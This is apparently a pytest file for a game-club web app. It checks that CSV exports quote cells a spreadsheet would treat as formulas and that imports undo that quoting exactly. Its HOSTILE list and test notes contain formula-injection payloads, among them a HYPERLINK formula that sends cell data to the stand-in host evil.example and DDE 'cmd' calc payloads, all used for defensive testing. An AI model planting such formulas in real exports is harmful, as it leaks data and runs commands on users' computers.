"""CSV exports never hand a spreadsheet a formula: a text cell starting with =, +, -,
@, a tab or a carriage return gets a leading quote (OWASP), numbers stay numbers, and
the import takes exactly that quote off, so hostile names round-trip."""

from __future__ import annotations

import csv
import io

import pytest

from companion.club.exports import export_csv, neutralise, unquote
from companion.club.imports import import_csv
from companion.club.models import Play, Player
from companion.club.plays import play_record_manual
from tests.club.people import make_club

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+two quotes",
    "'plain quote",
    "Anja",
]


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("x=1", "x=1"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_quoted_and_unquoted_exactly(text, written):
    assert neutralise(text) == written
    if isinstance(text, str):
        assert unquote(neutralise(text)) == text


def test_the_export_quotes_hostile_names_and_notes_but_not_numbers(db):
    bay = make_club()
    evil = Player.objects.create(club=bay.club, name=HOSTILE[0])
    play_record_manual(
        club=bay.club,
        data={
            "game": "scoresheet",
            "played_at": "2026-11-01T20:00:00Z",
            "notes": "=cmd|' /C calc'!A0",
            "lowest_wins": True,
            "results": [{"player": evil.pk, "score": -3}, {"player": bay.anja.pk, "score": 4.5}],
        },
    )
    rows = rows_of("".join(export_csv(bay.club)))
    by_seat = {row["seat"]: row for row in rows}
    assert by_seat["0"]["player"] == "'" + HOSTILE[0]
    assert by_seat["0"]["notes"] == "'=cmd|' /C calc'!A0"
    assert by_seat["0"]["score"] == "-3", "a number the exporter writes stays a plain number"
    assert by_seat["1"]["score"] == "4.5" and by_seat["1"]["player"] == "Anja"


def test_export_then_import_round_trips_hostile_names_exactly(db):
    bay = make_club()
    players = [Player.objects.create(club=bay.club, name=name) for name in HOSTILE[:-1]]
    play_record_manual(
        club=bay.club,
        data={
            "game": "scoresheet",
            "played_at": "2026-11-01T20:00:00Z",
            "notes": "@noon, -wet, =dry",
            "results": [{"player": p.pk, "score": i} for i, p in enumerate(players)],
        },
    )
    exported = "".join(export_csv(bay.club))
    other = make_club("other-cove")
    for name in HOSTILE[:-1]:
        Player.objects.create(club=other.club, name=name)
    report = import_csv(other.club, exported.encode(), dry_run=False)
    assert report["ok"] and report["imported"] == 1, report["errors"]
    play = Play.objects.get(club=other.club)
    assert play.notes == "@noon, -wet, =dry"
    names = [r.player.name for r in play.results.order_by("seat")]
    assert names == HOSTILE[:-1]
    assert "".join(export_csv(other.club)).splitlines()[1:] != [], "and it exports again"
    again = rows_of("".join(export_csv(other.club)))
    assert [row["player"] for row in again] == [row["player"] for row in rows_of(exported)]


def test_the_api_and_page_exports_are_quoted_too(db):
    bay = make_club()
    Player.objects.filter(pk=bay.anja.pk).update(name="=1+1")
    play_record_manual(
        club=bay.club,
        data={"game": "scoresheet", "results": [{"player": bay.anja.pk, "score": 1}]},
    )
    api = b"".join(bay.api().get(f"{bay.url}/export/plays.csv").streaming_content).decode()
    page = b"".join(bay.page().get(f"/club/{bay.club.slug}/plays.csv").streaming_content).decode()
    for text in (api, page):
        assert rows_of(text)[0]["player"] == "'=1+1"
